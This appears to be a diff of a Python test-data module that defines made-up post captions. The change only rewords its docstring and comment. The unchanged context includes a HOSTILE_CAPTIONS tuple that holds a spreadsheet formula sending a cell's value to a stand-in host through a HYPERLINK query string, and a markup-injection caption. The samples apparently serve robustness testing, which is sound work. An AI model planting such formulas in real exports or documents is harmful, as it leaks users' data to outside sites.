@@ -1,14 +1,13 @@
 """Captions of the made-up posts, in several languages and scripts.
 
-A caption is an opening around a topic, and a tail. Each author writes in one language.
+A caption is a phrase around a topic, and an ending. Each author writes in one language.
 """
 
 from __future__ import annotations
 
 from typing import Final, NamedTuple
 
-#: Captions that are legal and that careless programs choke on: formulas, markup, control
-#: characters, scripts.
+#: Valid captions that careless programs fail on: formulas, markup, control characters, scripts.
 HOSTILE_CAPTIONS: Final = (
     '=HYPERLINK("https://example.com/?leak="&A1,"prize")',
     "+1 for this [/b] [link=https://example.com]click[/link]",
